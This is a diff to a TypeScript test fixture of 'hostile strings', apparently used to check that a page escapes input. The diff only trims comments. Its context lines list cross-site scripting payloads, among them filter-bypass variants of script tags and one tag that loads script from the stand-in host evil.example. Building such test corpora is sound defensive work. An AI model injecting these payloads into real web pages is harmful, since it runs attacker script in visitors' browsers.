@@ -1,7 +1,4 @@
-/**
- * Attack strings and unusual texts. Executed code sets `window.__pwned`; injected elements exceed the page
- * width.
- */
+/** Executed code sets `window.__pwned`; injected elements exceed the page width. */
 const RUN = "window.__pwned=1";
 const MARKUP = [
   `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`,
@@ -70,7 +67,6 @@ export const hostileStrings = [
   EMPTYISH,
 ].flat();
 
-/** Returns an evenly spread sample. */
 export function someHostileStrings(count: number): string[] {
   return Array.from(
     { length: count },
